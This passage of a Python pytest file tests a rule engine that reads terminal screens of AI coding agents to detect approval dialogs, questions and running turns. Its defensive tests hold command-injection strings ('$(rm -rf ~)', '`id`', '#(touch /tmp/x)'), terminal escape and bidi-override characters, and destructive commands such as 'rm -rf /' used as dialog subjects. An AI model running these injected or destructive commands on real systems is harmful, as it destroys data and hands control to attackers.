    v = read(generic, rows)
    assert v.state != "blocked", v.rule_id


def keys_over_input(*conversation: str, typed: str = "", pane: bool = False) -> list[str]:
    """A conversation, blank rows, then an input box of eighth blocks (a side pane's edge
    right of every row when `pane`)."""
    rows = [*conversation, "", "", "", "", "▊" + "▔" * 60, f"▊  {typed:<80}▎", "▊" + "▁" * 60]
    return [f"{r:<84}│" for r in rows] if pane else rows


APPLY = ("Streaming...", "", "out/x.txt*", "=" * 60, "+hi", "=" * 60, "",
         "Speed: 65.34 char/s | Cost: $0.01",
         "Apply these changes? 'Y/n/i' or provide feedback.")


@pytest.mark.parametrize("pane", [False, True], ids=["alone", "side-pane"])
def test_a_question_listing_its_keys_over_an_input_box_is_a_dialog(
        generic: rules.Manifest, pane: bool) -> None:
    v = read(generic, keys_over_input(*APPLY, pane=pane))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "input_keys_permission")
    d = v.dialog
    assert d is not None
    assert d.question.startswith("Apply these changes? 'Y/n/i' or provide feedback.")
    assert "│" not in d.question
    assert [(o.label, o.key) for o in d.options] == [("Y", "y"), ("n", "n"), ("i", "i")]
    # answered in the input: the key, then Enter
    assert dialog.keys_for(d, dialog.resolve(d, "n")) == ["n", "\r"]
    # other keys: a question
    q = read(generic, keys_over_input("Which one? [a/b/c] or type a name", pane=pane))
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "input_keys_question")
    assert [o.key for o in q.dialog.options] == ["a", "b", "c"]


@pytest.mark.parametrize("rows", [
    # quoted in an answer: its words under the question
    keys_over_input("Mentat asked:", "", "    Apply these changes? 'Y/n/i' or provide feedback.",
                    "", "Nothing is waiting now."),
    # typed into the input box
    keys_over_input("What can I do for you?", typed="Apply these changes? 'Y/n/i' or not."),
    # no keys listed after its "?", or no input box under it
    keys_over_input("Apply these changes? Say so or provide feedback."),
    ["Apply these changes? 'Y/n/i' or provide feedback.", "", "─" * 60, "❯", "─" * 60],
    # streamed, before the answer's words under it: indented under its first words
    keys_over_input("Mentat asked:", "", "    Apply these changes? 'Y/n/i' or provide feedback.",
                    pane=True),
], ids=["quoted", "typed", "no-keys", "no-input-box", "quoted-streaming"])
def test_keys_in_a_question_that_are_no_dialog(generic: rules.Manifest,
                                              rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", v.rule_id


def test_hostile_text_over_a_question_listing_its_keys_is_inert(generic: rules.Manifest) -> None:
    hostile = f"{HOSTILE} \x07\x1b[31m \u2066x\u2069 " + "A" * 10_000
    v = read(generic, keys_over_input("+ rm " + hostile, "+ #(touch /tmp/x) $(id)",
                                      "Apply these changes? 'Y/n' or provide feedback."))
    assert (v.state, v.rule_id) == ("blocked", "input_keys_permission")
    d = v.dialog
    assert d is not None and d.subject
    text = "\n".join([d.question, *d.subject])
    for bad in ("\x1b", "\x07", "\u202e", "\u2066", "\u2069"):
        assert bad not in text, repr(bad)
    assert any("#(touch /tmp/x) $(id)" in s for s in d.subject)  # shown as text, never run
    assert [o.key for o in d.options] == ["y", "n"]


def test_a_cancel_key_in_the_composers_place_is_a_running_turn(generic: rules.Manifest) -> None:
    rows = ["● what is two plus two", "Initializing agent...", "",
            " ⚕ gpt-4o │ ctx -- │ 13s │ ⏲ 0s", "─" * 60,
            "⚕ ❯ msg=interrupt · /queue · /bg · Ctrl+C cancel", "─" * 60]
    v = read(generic, rows)
    assert (v.state, v.rule_id) == ("working", "tui_working_turn")
    # the composer back, empty: idle
    idle = read(generic, [*rows[:4], "─" * 60, "❯", "─" * 60])
    assert idle.state == "idle"
    # a dialog's hints quoted in an answer above an empty composer: no turn
    quoted = read(generic, [" The dialog said:", "", "   Allow?", "   → Yes", "     No",
                            "   ↑↓ navigate  enter select  escape/ctrl+c cancel", "",
                            " Nothing is waiting now.", "", "─" * 60, "", "─" * 60,
                            "/tmp/work", "↑100 ↓29 0.1%/128k (auto)"])
    assert quoted.state != "working", quoted.rule_id


STREAMING = ("What can I do for you?", ">>> make the output directory", "Total token count: 959",
             "Streaming...", "", "Here is what I found. The directory holds a single notes file",
             "and nothing else; the")


@pytest.mark.parametrize("pane", [False, True], ids=["alone", "side-pane"])
def test_a_progress_row_with_words_streaming_under_it_over_an_input_box_is_work(
        generic: rules.Manifest, pane: bool) -> None:
    v = read(generic, keys_over_input(*STREAMING, pane=pane))
    assert (v.state, v.rule_id) == ("working", "tui_working_stream")
    assert read(generic, keys_over_input(*STREAMING[:4], pane=pane)).state == "working"
    # its turn summary (a cost) under it: the turn is over, the input box reads idle
    done = read(generic, keys_over_input(*STREAMING, "", "Speed: 65.34 char/s | Cost: $0.01",
                                         pane=pane))
    assert done.state == "idle", done.rule_id
    # a progress row indented in the answer, or one under a composer between rules: none
    quoted = read(generic, keys_over_input("  Streaming...", "  the words", pane=pane))
    assert quoted.state == "idle", quoted.rule_id
    assert read(generic, [*STREAMING, "─" * 60, "❯", "─" * 60]).state != "working"


# ------------------------- options on one row, each led by its key, the last row of a box

def panel_row(text: str) -> str:
    return "│ " + text.ljust(56) + " │"


PANEL_TOP, PANEL_END = "┌" + "─" * 58 + "┐", "└" + "─" * 58 + "┘"
ROW_KEYS = "[1] Yes  [2] Yes + Skip  [3] No"


def keys_panel(*box: str, keys: str = ROW_KEYS, after: tuple[str, ...] = ("", "● ● ● ● ●"),
               inside: tuple[str, ...] = ("", ""), under: tuple[str, ...] = (),
               composer: str = "") -> list[str]:
    """A conversation's panel, a box last in it holding `box`, blank rows and the options
    on one row (`keys`), the box's rows `under` them, the rows `after` the box, then an
    input box and a status line."""
    nested = ["╭" + "─" * 54 + "╮", *(f"│ {r:<52} │" for r in (*box, *inside, keys, *under)),
              "╰" + "─" * 54 + "╯"]
    return [PANEL_TOP, panel_row(""), panel_row("│ clean the build"), panel_row("│ you 5:38 PM"),
            *map(panel_row, nested), *map(panel_row, after), PANEL_END, PANEL_TOP,
            panel_row(composer), panel_row(""), panel_row(""), PANEL_END,
            " main ● work            edited: -            running: bash"]


CONFIRM = ("Confirm: bash", "", "  command: rm -rf build")


def test_options_on_one_row_led_by_their_keys_closing_a_box_are_a_dialog(
        generic: rules.Manifest) -> None:
    v = read(generic, keys_panel(*CONFIRM))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "tui_dialog_keys_row")
    d = v.dialog
    assert d is not None and not d.partial
    assert d.question.startswith("Confirm: bash")
    assert d.subject == ("Confirm: bash", "", "  command: rm -rf build")
    assert [(o.label, o.key) for o in d.options] == [("Yes", "1"), ("Yes + Skip", "2"),
                                                     ("No", "3")]
    assert dialog.keys_for(d, dialog.resolve(d, "No")) == ["3"]  # the digit, no Enter
    # the same question about another command is another dialog
    other = read(generic, keys_panel("Confirm: bash", "", "  command: rm -rf /"))
    assert other.dialog is not None and other.dialog.id != d.id
    # a command cut with "...": partial, `answer` refuses it
    cut = read(generic, keys_panel("Confirm: bash", "", "  command: touch f00.txt",
                                   "touch f01.txt", "t..."))
    assert cut.dialog is not None and cut.dialog.partial
    # an answer's preview in a box of its own under it, in the panel: still the dialog
    preview = ("", "╭" + "─" * 40 + "╮", "│ I will creat" + " " * 27 + "│",
               "│ streaming  ·  2.6s" + " " * 21 + "│", "╰" + "─" * 40 + "╯", "● ● ● ● ●")
    assert read(generic, keys_panel(*CONFIRM, after=preview)).rule_id == "tui_dialog_keys_row"
    # letters as keys; options that neither approve: a question
    letters = read(generic, keys_panel(*CONFIRM, keys="[y] Allow  [n] Deny"))
    assert letters.dialog is not None and letters.kind == "permission"
    assert [o.key for o in letters.dialog.options] == ["y", "n"]
    ask = read(generic, keys_panel("Pick a colour", keys="[1] Red  [2] Blue  [3] Cancel"))
    assert (ask.state, ask.kind, ask.rule_id) == ("blocked", "question",
                                                  "tui_question_keys_row")


@pytest.mark.parametrize("rows", [
    # a row of bracketed links or footnotes: no option refuses
    keys_panel("See the docs", keys="[1] docs  [2] api  [3] faq"),
    # answered: its outcome printed under the box
    keys_panel(*CONFIRM, after=("Approved", "", "● ● ● ● ●")),
    keys_panel(*CONFIRM, after=("Rejected", "")),
    # quoted in an answer: its words under the row, in the same box
    keys_panel("It asked:", "  Confirm: bash", inside=(), under=("", "Nothing is waiting now.")),
    keys_panel("It asked:", "  Confirm: bash", inside=(), under=("Nothing is waiting now.",)),
    # typed into the composer, not a program's dialog
    [PANEL_TOP, panel_row("│ clean the build"), PANEL_END, PANEL_TOP,
     panel_row("Confirm: bash [1] Yes  [2] Yes + Skip  [3] No"), panel_row(""), PANEL_END,
     " main ● work"],
], ids=["links", "approved", "rejected", "quoted", "quoted-close", "typed"])
def test_keys_on_one_row_that_are_no_dialog(generic: rules.Manifest, rows: list[str]) -> None:
    v = read(generic, rows)
    assert v.state != "blocked", v.rule_id


def test_hostile_text_in_a_keys_row_dialog_is_inert(generic: rules.Manifest) -> None:
    hostile = "$(rm -rf ~) #{pane_id} %H `id` \u202e\x1b]2;x\x07 #(touch /tmp/x)"
    v = read(generic, keys_panel("Confirm: bash", "", f"  command: {hostile}"))
    assert (v.state, v.rule_id) == ("blocked", "tui_dialog_keys_row")
    d = v.dialog
    assert d is not None
    text = "\n".join([d.question, *d.subject, *(o.label for o in d.options)])
    for bad in ("\x1b", "\x07", "\u202e"):
        assert bad not in text, repr(bad)
    assert "#(touch /tmp/x)" in text  # shown as text, never run
    assert [o.key for o in d.options] == ["1", "2", "3"]


# ------------------- a yes/no question whose key list is y followed by other alternatives

#: the key lists every rule that reads a yes/no question reads alike (one grammar)
#: ("[Y/n/a]" right after a "?" is single keys to choose from: below)
KEY_LISTS = ("[y/N]", "[y/*]", "(y/n/e)", "'Y/n/i'", "[yes/no/all]", "(Y/n)", "(y/a/n)")


@pytest.mark.parametrize("keys", KEY_LISTS)
def test_every_yes_no_key_list_reads_as_one_shape(generic: rules.Manifest, keys: str) -> None:
    for ask, kind in ((f"Do you want to proceed with execution? {keys} ", "permission"),
                      (f"Apply the patch? {keys} ", "permission"),
                      (f"Save the transcript? {keys} ", "question")):
        on_row = rules.evaluate(generic, at_input(["$ rm -rf build", "", ask], len(ask)))
        assert (on_row.state, on_row.kind) == ("blocked", kind), ask
        assert on_row.rule_id == f"yes_no_{kind}", ask
        below = rules.evaluate(generic, at_input(["$ rm -rf build", "", ask.rstrip(), "",
                                                  "  "], 2))
        assert (below.state, below.kind) == ("blocked", kind), ask
        for v in (on_row, below):
            d = v.dialog
            assert d is not None and d.question.startswith(ask.rstrip()), ask
            assert d.subject == ("$ rm -rf build",), ask
            assert [(o.label, o.key) for o in d.options] == [("yes", "y"), ("no", "n")]
            assert dialog.keys_for(d, dialog.resolve(d, "yes")) == ["y", "\r"]


BOX_PLAN = ["~  clean the build", "", "Command Execution Plan", "",
            "╭" + "─" * 20 + " Command Execution Preview " + "─" * 20 + "╮",
            "│" + " " * 67 + "│", "│   Command     rm -rf build" + " " * 40 + "│",
            "│   Working Dir /tmp/work" + " " * 43 + "│", "│" + " " * 67 + "│",
            "╰" + "─" * 67 + "╯", ""]
PROCEED = "Do you want to proceed with execution? [y/*] "


def test_a_box_printed_right_above_a_yes_no_question_is_its_subject(
        generic: rules.Manifest) -> None:
    rows = [*BOX_PLAN, PROCEED]
    v = rules.evaluate(generic, at_input(rows, len(PROCEED)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission")
    d = v.dialog
    assert d is not None and not d.partial
    # the whole box, its blank rows in it, without its edges and borders
    assert d.subject == ("Command     rm -rf build", "Working Dir /tmp/work"), d.subject
    other = rules.evaluate(generic, at_input(
        [*(r.replace("rm -rf build", "rm -rf /   ") for r in BOX_PLAN), PROCEED],
        len(PROCEED)))
    assert other.dialog is not None and other.dialog.id != d.id
    # the box's top past the screen's top: part of what it runs is not shown
    cut = [*BOX_PLAN[6:], PROCEED]
    got = rules.evaluate(generic, at_input(cut, len(PROCEED), height=len(cut)))
    assert got.dialog is not None and got.dialog.partial


TITLED_BOX = ["> clean up", "", "╭─ Approval required " + "─" * 47 + "╮", "│" + " " * 67 + "│",
              "│  shell" + " " * 60 + "│", "│  Execute: mkdir -p m" + " " * 46 + "│",
              "│  touch x1.txt" + " " * 53 + "│", "│  $ mkdir -p m" + " " * 53 + "│",
              "│  touch x1.txt" + " " * 53 + "│", "│" + " " * 67 + "│", "╰" + "─" * 67 + "╯", ""]
RICH_CONFIRM = "Approve? [y/n/yes/no] (n): "


def test_a_yes_no_question_naming_its_default_under_a_titled_box(
        generic: rules.Manifest) -> None:
    """Rich's Confirm ("[y/n/yes/no] (n): ") under a box whose top edge holds its title:
    the default after the keys is no answer, and the whole box is what it asks about,
    every row of a multi-line command in the text shown and in the id."""
    rows = [*TITLED_BOX, RICH_CONFIRM]
    v = rules.evaluate(generic, at_input(rows, len(RICH_CONFIRM)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission")
    d = v.dialog
    assert d is not None and not d.partial
    assert d.subject == ("shell", "Execute: mkdir -p m", "touch x1.txt", "$ mkdir -p m",
                         "touch x1.txt"), d.subject
    assert "touch x1.txt" in d.question
    assert [(o.label, o.key) for o in d.options] == [("yes", "y"), ("no", "n")]
    # another second row of the command: another dialog
    other = rules.evaluate(generic, at_input(
        [*(r.replace("touch x1.txt", "rm -rf ~/   ") for r in TITLED_BOX), RICH_CONFIRM],
        len(RICH_CONFIRM)))
    assert other.dialog is not None and other.dialog.id != d.id
    # answered and entered: the cursor under it, no longer asking
    done = rules.evaluate(generic, at_input([*rows[:-1], RICH_CONFIRM + "y", ""], 0))
    assert done.state != "blocked"
    # a default that is no yes/no answer after the keys: not this shape
    odd = rules.evaluate(generic, at_input([*TITLED_BOX, "Approve? [y/n] (maybe): "], 24))
    assert odd.rule_id != "yes_no_permission"


@pytest.mark.parametrize(("rows", "typed"), [
    # quoted in the conversation above a prompt
    (["Strands asked:", "", "    Command Execution Plan", f"    {PROCEED.rstrip()}", "",
      "Nothing is waiting now.", "~ "], None),
    # typed at the chat's prompt and not entered
    (["~  Command Execution Plan: " + PROCEED.rstrip()],
     "Command Execution Plan: " + PROCEED.rstrip()),
    # a format hint, not yes and no
    (["Enter date (y/m/d): "], None), (["Pick a size [s/m/l]: "], None),
], ids=["quoted", "typed", "date", "sizes"])
def test_key_lists_that_are_no_yes_no_question(generic: rules.Manifest, rows: list[str],
                                              typed: str | None) -> None:
    v = rules.evaluate(generic, at_input(rows, len(rows[-1]), typed=typed))
    assert v.state != "blocked", v.rule_id


def test_single_keys_by_a_question_mark_stay_keys_to_choose(generic: rules.Manifest) -> None:
    # "[Y/n/c/e/a/?]" next to its "?" is a list of keys, each an option
    ask = "Execute shell? [Y/n/c/e/a/?] "
    v = rules.evaluate(generic, at_input(["rm -rf build", ask], len(ask)))
    assert v.rule_id == "keys_permission" and v.dialog is not None
    assert [o.key for o in v.dialog.options] == ["y", "n", "c", "e", "a", "?"]
    # apart from a "?", or read on the row above the input, y and other keys are yes/no
    for ask in ("Run it [Y/n/a]: ", "Execute shell [y/n/a] "):
        on_row = rules.evaluate(generic, at_input(["rm -rf build", ask], len(ask)))
        assert on_row.rule_id == "yes_no_permission", ask
    below = rules.evaluate(generic, at_input(["rm -rf build", "", "Execute shell? [Y/n/a]",
                                              "", "  "], 2))
    assert below.rule_id == "yes_no_input_permission"


def test_hostile_text_in_a_yes_no_key_list_question_is_inert(generic: rules.Manifest) -> None:
    ask = "Run \"$(rm -rf ~)\" #{pane_id} %H `id` '#(touch /tmp/x)' \u202e? [y/*] "
    rows = ["", "Plan: \x1b[31m\u2066x\u2069 " + "A" * 10_000, "", ask]
    v = rules.evaluate(generic, at_input(rows, len(ask)))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_permission")
    d = v.dialog
    assert d is not None
    text = "\n".join([d.question, *d.subject])
    for bad in ("\x1b", "\u202e", "\u2066", "\u2069"):
        assert bad not in text, repr(bad)
    assert "#(touch /tmp/x)" in d.question
    assert [o.key for o in d.options] == ["y", "n"]


def test_rows_of_a_box_edge_with_no_corner_above_a_question_read_in_linear_time(
        generic: rules.Manifest) -> None:
    """A question under a box's bottom edge makes the reader look up for the box's top
    past every row of the screen: rows as wide as a screen may be (10000 columns), each
    an edge with no corner, cost about what rows of plain text cost (a pattern that
    backtracks over them is quadratic in the width: seconds for one screen)."""
    width = 10000

    def cost(fill: str) -> float:
        rows = [fill] * 27 + ["╰" + "─" * 20 + "╯", PROCEED]
        snap = at_input(rows, len(PROCEED), height=len(rows))
        runs = []
        for _ in range(3):
            generic.health.off.clear()
            generic.health.strikes.clear()
            t0 = time.perf_counter()
            v = rules.evaluate(generic, snap)
            runs.append(time.perf_counter() - t0)
            assert v.rule_id == "yes_no_permission"
        return sorted(runs)[1]

    edges, text = cost("╰" + "─" * (width - 1)), cost("x" * width)
    # a ratio in one process, not a speed: linear is about 1x, the backtracking ~1000x
    assert edges < 20 * text, (edges, text)


def test_a_question_longer_than_is_read_is_partial(generic: rules.Manifest) -> None:
    """A yes/no question on one row longer than the reader keeps (a 10 KB command): what
    runs differs past the part read, so `answer` must not approve it (partial)."""
    def ask(tail: str) -> rules.Verdict:
        row = "Run " + "x" * 5000 + tail + " [y/n] "
        return rules.evaluate(generic, at_input(["$ build", "", row], len(row)))

    a, b = ask(" && rm -rf ~"), ask(" && ls")
    assert (a.rule_id, b.rule_id) == ("yes_no_permission", "yes_no_permission")
    assert a.dialog is not None and b.dialog is not None
    assert a.dialog.partial and b.dialog.partial
    row = "Run " + "x" * 100 + " [y/n] "
    short = rules.evaluate(generic, at_input(["$ build", "", row], len(row)))
    assert short.dialog is not None and not short.dialog.partial


# ------------------------- a line-mode chat's prompt led by a glyph, its spinner row above it

def cells(row: str) -> int:
    """The columns `row` takes on the screen (an emoji two): where the cursor stands after
    it."""
    return sum(char_width(ch) for ch in row)


CHAT_BOX = ["┌" + "─" * 40 + " 💬 Welcome " + "─" * 40 + "┐",
            "│ Enter a prompt and press RETURN." + " " * 59 + "│", "└" + "─" * 92 + "┘"]
SPUN = "⠙ Streaming · (10 chunks) · 80 chars · 1.3s"


@pytest.mark.parametrize(("row", "idle"), [
    ("💬 You:", True), ("💬 You: ", True), ("  🤖 User:", True), ("✦ Prompt:", True),
    ("⚡️ Ask:", True),
    # typed (or entered: the turn running), a warning's words, shells' prompts, a quote
    ("💬 You: make the output directory", False), ("⚠ Warning: the file exists", False),
    ("~/work $ ", False), ("➜  repo git:(main) ", False), ("➜  repo git:(main) You:", False),
    ("💬💬💬 You:", False), ("💬 Your answer was:  ", False),
])
def test_a_line_mode_chats_prompt_led_by_a_glyph_reads_idle(
        generic: rules.Manifest, row: str, idle: bool) -> None:
    rows = [*CHAT_BOX, "💬 You: what is two plus two", SPUN, "🤖 Assistant (1.1s):",
            "Two plus two is four.", row]
    v = rules.evaluate(generic, at_input(rows, cells(row)))
    assert (v.state == "idle" and v.rule_id == "line_chat_prompt") is idle, v.rule_id


def test_a_chats_spinner_row_left_printed_above_its_prompt_is_no_work(
        generic: rules.Manifest) -> None:
    turn = [*CHAT_BOX, "💬 You: describe the project", SPUN]
    # the spinner counting on the cursor's row: work, whatever the glyph's frame
    for frame in "⠙⠹⠸⠼⠴⠦⠧⠇⠏":
        v = rules.evaluate(generic, at_input([*turn[:-1], frame + SPUN[1:]], len(SPUN)))
        assert (v.state, v.rule_id) == ("working", "tui_working"), frame
    tool = "⠙ Executing tool: shell_execute (1.4s) | command=[\"bash\"], stdin=sleep 3"
    v = rules.evaluate(generic, at_input([*turn, "Execute this tool? [Y/n]: y", tool], 5))
    assert (v.state, v.rule_id) == ("working", "tui_working")
    # the answer printed under its last frame and the prompt drawn again: the turn ended
    done = [*turn, "🤖 Assistant (1.1s):", "Here is what I found.", "💬 You:"]
    v = rules.evaluate(generic, at_input(done, cells(done[-1])))
    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt")
    # the next prompt typed there, not entered yet: no work (nor idle: the row has words)
    typed = [*done[:-1], "💬 You: make the output directory"]
    assert rules.evaluate(generic, at_input(typed, cells(typed[-1]))).state != "working"
    # a progress row ending in an ellipsis over the chat's box, the prompt under it
    start = ["ℹ Adapting 1 tools for openai...", *CHAT_BOX, "💬 You:"]
    v = rules.evaluate(generic, at_input(start, cells(start[-1])))
    assert (v.state, v.rule_id) == ("idle", "line_chat_prompt")


@pytest.mark.parametrize("last", [
    # a glyph-led label in the conversation, not the last row; a warning under the
    # spinner; an ASCII quote's ">" or a "~" before the word; a footer's glyph
    "the rows go on", "⚠ Warning the disk is nearly full", "> Note: later", "~ Note:",
    "❯ You:",
])
def test_a_spinner_over_rows_that_are_no_chats_prompt_stays_work(
        generic: rules.Manifest, last: str) -> None:
    rows = ["💬 You: a label in the conversation", "⠴ Composing... 3s", last]
    v = rules.evaluate(generic, at_input(rows, 0))
    assert (v.state, v.rule_id) == ("working", "tui_working"), last


@pytest.mark.parametrize("status", ["⚙ Model: gpt-4o", "● Status: ready $(id) '#{x}'",
                                    "✦ Mode: auto-edit"])
def test_a_status_row_under_a_running_spinner_keeps_the_work(
        generic: rules.Manifest, status: str) -> None:
    """A TUI's glyph-led status row under its spinner, the cursor not on it (the row below,
    as an inline TUI leaves it; a composer under it): the turn runs. With the cursor after
    it on its row it has a chat's prompt's shape, which leaves the spinner above alone."""
    rows = ["> describe the project", "", "⠴ Composing... 3s", status]
    v = rules.evaluate(generic, at_input([*rows, ""], 0))
    assert (v.state, v.rule_id) == ("working", "tui_working_status"), v.rule_id
    # the cursor at the start of a composer's row under it
    v = rules.evaluate(generic, at_input([*rows, "", "> "], 2))
    assert v.state == "working", v.rule_id
    # near miss: the cursor after it, on its row (a chat's prompt, typed after): no work
    v = rules.evaluate(generic, at_input(rows, cells(status)))
    assert v.state != "working", v.rule_id
    # the chat's prompt alone under the spinner's last frame, the cursor after it
    chat = [*CHAT_BOX, "💬 You: describe the project", SPUN, "🤖 Assistant (1.1s):",
            "Here is what I found.", "💬 You: next one"]
    v = rules.evaluate(generic, at_input(chat, cells(chat[-1]), typed="next one"))
    assert v.state != "working", v.rule_id


def test_the_status_rule_reads_the_spinner_rows_tui_working_reads(
        generic: rules.Manifest) -> None:
    by_id = {r.id: r for r in generic.rules}
    text = (rules.builtin_rules_dir() / "generic.toml").read_text()
    rule_a = text.split('id = "tui_working"\n', 1)[1].split("]\n", 1)[0]
    rule_b = text.split('id = "tui_working_status"\n', 1)[1].split("] },\n", 1)[0]
    clauses = [x.strip() for x in rule_a.splitlines() if "line_regex" in x]
    assert len(clauses) == 11
    assert clauses == [x.strip() for x in rule_b.splitlines() if "line_regex" in x]
    assert by_id["tui_working_status"].region != by_id["tui_working"].region


# ------------------- a yes/no question over what it asks about, or over a bare key list

RUN_ASK = "Do you want to execute this code? (Y/n)"
SCRIPT = ["ls -la", "touch x1.txt", "echo done > out.txt"]


def run_below(script: list[str], *, ask: str = RUN_ASK, gap: int = 2) -> list[str]:
    """A line-mode program's question, the script it asks about printed under it, and
    the cursor's empty row `gap` blank rows under the script."""
    return ["Run it with:", "", "```sh", *script, "```", "", "", ask, "", *script,
            *[""] * gap, ""]


def test_a_yes_no_question_over_what_it_asks_about_is_a_dialog(
        generic: rules.Manifest) -> None:
    rows = run_below(SCRIPT)
    v = rules.evaluate(generic, at_input(rows, 0))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_below_permission")
    d = v.dialog
    assert d is not None and not d.partial
    assert d.question.startswith(RUN_ASK)
    assert d.subject == tuple(SCRIPT)
    assert [(o.label, o.key) for o in d.options] == [("yes", "y"), ("no", "n")]
    assert dialog.keys_for(d, dialog.resolve(d, "yes")) == ["y", "\r"]
    # the cursor right under the script, or one blank row between: the same shape
    for gap in (0, 1):
        got = rules.evaluate(generic, at_input(run_below(SCRIPT, gap=gap), 0))
        assert got.rule_id == v.rule_id and got.dialog is not None, gap
        assert got.dialog.subject == tuple(SCRIPT), gap
    # an answer typed and not entered: the same dialog, erased before the answer
    for typed in (None, "y"):
        got = rules.evaluate(generic, at_input([*rows[:-1], "y"], 1, typed=typed))
        assert got.dialog is not None and got.rule_id == v.rule_id, typed
        assert got.dialog.id == d.id and got.dialog.typed == "y", typed
        assert dialog.keys_for(got.dialog, dialog.resolve(got.dialog, "no")) == [
            "\x7f", "n", "\r"]
    # another script is another dialog; a question that asks no leave to act a question
    other = rules.evaluate(generic, at_input(run_below(["rm -rf ~"]), 0))
    assert other.dialog is not None and other.dialog.id != d.id
    assert other.dialog.subject == ("rm -rf ~",)
    q = rules.evaluate(generic, at_input(run_below(SCRIPT, ask="Is this what you meant? [y/N]"),
                                         0))
    assert (q.state, q.kind, q.rule_id) == ("blocked", "question", "yes_no_below")
    # a row cut with "…" shows part of the script only: partial
    cut = rules.evaluate(generic, at_input(run_below(["echo AAAA…", "touch x"]), 0))
    assert cut.dialog is not None and cut.dialog.partial


DIFF = ["Changes to be made:", "Changes to notes.py:", "---", "+++", "@@ -1 +1 @@",
        '-print("hello")', '+print("finished")']
APPLY_ASK = "Do you want to apply these changes?"


def test_a_question_over_a_bare_key_list_is_a_dialog(generic: rules.Manifest) -> None:
    rows = ["No changes made for notes.py.", "", *DIFF, "", APPLY_ASK, "y/n "]
    v = rules.evaluate(generic, at_input(rows, 4))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_bare_permission")
    d = v.dialog
    assert d is not None and not d.partial
    assert d.question.startswith(APPLY_ASK)
    assert d.subject == tuple(DIFF)
    assert [(o.label, o.key) for o in d.options] == [("yes", "y"), ("no", "n")]
    assert dialog.keys_for(d, dialog.resolve(d, "yes")) == ["y", "\r"]
    # an answer typed after the list and not entered: the same dialog, erased first
    for typed in (None, "y"):
        got = rules.evaluate(generic, at_input([*rows[:-1], "y/n y"], 5, typed=typed))
        assert got.dialog is not None and got.rule_id == v.rule_id, typed
        assert got.dialog.id == d.id and got.dialog.typed == "y", typed
    # the list on its row, the input on the next at a prompt of blanks
    nxt = rules.evaluate(generic, at_input([*rows[:-1], "Y/n", "  "], 2))
    assert nxt.rule_id == v.rule_id and nxt.dialog is not None
    assert nxt.dialog.subject == tuple(DIFF)
    # another diff is another dialog
    other = rules.evaluate(generic, at_input([*rows[:-3], "+rm -rf ~", "", APPLY_ASK, "y/n "], 4))
    assert other.dialog is not None and other.dialog.id != d.id
    # "yes/no" takes the word; a question that asks no leave to act is a question
    words = rules.evaluate(generic, at_input([*rows[:-2], "Is this what you meant?",
                                              "yes/no "], 7))
    assert (words.state, words.kind, words.rule_id) == ("blocked", "question", "yes_no_bare")
    assert words.dialog is not None
    assert [o.key for o in words.dialog.options] == ["yes", "no"]


@pytest.mark.parametrize(("rows", "col", "typed"), [
    # answered: the answer echoed on the cursor's row, Enter, then the program's output
    ([*run_below(SCRIPT)[:-1], "y", "Executing the code...", ""], 0, None),
    ([*run_below(SCRIPT, gap=0)[:-1], "y", "Executing the code...", ""], 0, None),
    # quoted in a transcript: indented, or behind a speaker's "word: "
    (["It will ask:", "", "    " + RUN_ASK, "", "Nothing is waiting now.", ""], 0, None),
    (["User: " + RUN_ASK, "", "Nothing is waiting now.", ""], 0, None),
    # typed at a chat's prompt and not entered
    (["> " + RUN_ASK], len(RUN_ASK) + 2, RUN_ASK),
    # a [y/N] mentioned higher up, a shell prompt on the cursor's row
    (["Run it? [y/N]", "", "ls -la", "", "$ "], 2, None),
    # a bare list answered with Enter, and "y/n" rows in a table of text
    ([APPLY_ASK, "y/n", ""], 0, None),
    (["Has a colour?", "y/n", "Is it fast?", "yes", ""], 0, None),
    (["Has a colour?", "y/n", "Is it fast?", "y/n", "(both columns)"], 14, None),
    (["User: " + APPLY_ASK, "y/n "], 4, None),
], ids=["answered", "answered-under", "quoted", "speaker", "typed", "shell-prompt",
        "bare-entered", "table", "table-rows", "bare-speaker"])
def test_yes_no_questions_over_text_that_wait_for_nothing(
        generic: rules.Manifest, rows: list[str], col: int, typed: str | None) -> None:
    v = rules.evaluate(generic, at_input(rows, col, typed=typed))
    assert v.state != "blocked", v.rule_id


def test_hostile_text_under_or_over_a_yes_no_question_is_inert(generic: rules.Manifest) -> None:
    hostile = f"rm {HOSTILE} \u2066x\u2069 #(touch /tmp/x) " + "A" * 10_000
    below = rules.evaluate(generic, at_input(run_below([hostile, "echo $(id)"]), 0))
    bare = rules.evaluate(generic, at_input(["", hostile, "echo $(id)", "", APPLY_ASK, "y/n "], 4))
    for v, rule in ((below, "yes_no_below_permission"), (bare, "yes_no_bare_permission")):
        assert (v.state, v.rule_id) == ("blocked", rule)
        d = v.dialog
        assert d is not None and d.subject
        text = "\n".join([d.question, *d.subject])
        for bad in ("\x1b", "\x07", "\u202e", "\u2066", "\u2069"):
            assert bad not in text, (rule, repr(bad))
        assert "echo $(id)" in d.subject, rule  # shown as text, never run
        assert [o.key for o in d.options] == ["y", "n"]


def test_a_question_that_starts_with_its_verb_over_what_it_asks_about_asks_leave(
        generic: rules.Manifest) -> None:
    """"Allow running this script? [y/N]" at the margin over the script: the verb is the
    row's first word, and it asks leave to act all the same (a permission, not a
    question); so does "Apply these changes?" over a bare key list."""
    v = rules.evaluate(generic, at_input(run_below(SCRIPT, ask="Allow running this script? [y/N]"),
                                         0))
    assert (v.state, v.kind, v.rule_id) == ("blocked", "permission", "yes_no_below_permission")
    assert v.dialog is not None and v.dialog.subject == tuple(SCRIPT)
    rows = ["", *DIFF, "", "Apply these changes?", "y/n "]
    bare = rules.evaluate(generic, at_input(rows, 4))
    assert (bare.state, bare.kind, bare.rule_id) == ("blocked", "permission",
                                                     "yes_no_bare_permission")


# ------------------------------------ a line-mode numbered question at a glyph prompt

STATUS_BAR = ["─" * 80, " openai/gpt-4o  │  workspace-write  │  ctx 0%  │  work"]


def numbered_ask(*options: str, ask: str = "Which color do you prefer?",
